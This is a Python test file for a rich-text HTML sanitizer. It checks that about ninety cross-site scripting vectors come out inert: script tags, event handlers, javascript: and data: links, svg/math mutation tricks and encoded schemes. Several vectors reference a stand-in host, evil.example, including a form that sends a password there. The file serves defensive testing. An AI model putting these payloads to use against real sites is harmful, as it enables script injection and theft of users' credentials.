"""Rich text: nothing that runs, loads or dresses up survives, however it was written."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mainspring.core.security.rich_text import ATTRIBUTES, LINKS, SCHEMES, TAGS, clean

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script>alert(1)",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='javascript:/*--></title></style></textarea></script><svg onload=alert(1)>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://example.com/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=x style='position:fixed;top:0'>x</a>",
    "<a href=x target=_blank>x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<a id=x name=location>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class=admin id=login>x</p>",
    "<b onfocus=alert(1) autofocus tabindex=1>x</b>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<frameset onload=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<x onclick=alert(1)>x</x>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>" * 2000 + "<script>alert(1)</script>",
]


class Reader(HTMLParser):
    """Notes every tag, with its attributes."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.others = [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    def handle_decl(self, decl):
        self.others.append(decl)

    def handle_pi(self, data):
        self.others.append(data)

    def unknown_decl(self, data):
        self.others.append(data)


def nothing_active(text):
    read = Reader(text)
    assert read.others == []
    for tag, attributes in read.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag == "a":
            assert attributes["rel"] == LINKS
        if "href" in attributes:
            scheme, colon, _ = attributes["href"].strip().partition(":")
            assert not colon or scheme.lower() in SCHEMES or "/" in scheme
            assert not any(sign < " " for sign in scheme)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_active_is_left(vector):
    cleaned = clean(vector)

    nothing_active(cleaned)
    assert clean(cleaned) == cleaned


@given(
    st.lists(
        st.sampled_from([*"<>/='\"& a\t\x00", "script", "svg", "style", "math", "onload=", "href=", "javascript:", "<!--", "-->"])
    )
)
def test_no_mixture_of_pieces_gets_through(pieces):
    cleaned = clean("".join(pieces))

    nothing_active(cleaned)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("<p>Hello <b>you</b><br>and <em>me</em></p>", "<p>Hello <b>you</b><br>and <em>me</em></p>"),
        ("<ul><li>one</li></ul>", "<ul><li>one</li></ul>"),
        ("<a href='https://example.com/?a=1&b=2'>x</a>", f'<a href="https://example.com/?a=1&amp;b=2" rel="{LINKS}">x</a>'),
        ("<a href='/me'>x</a>", f'<a href="/me" rel="{LINKS}">x</a>'),
        ("Fish & chips < 5", "Fish &amp; chips &lt; 5"),
        ("Grüße 👋", "Grüße 👋"),
        ("<h1>Big</h1>", "Big"),
        ("", ""),
    ],
)
def test_what_is_on_the_list_stays(typed, kept):
    assert clean(typed) == kept
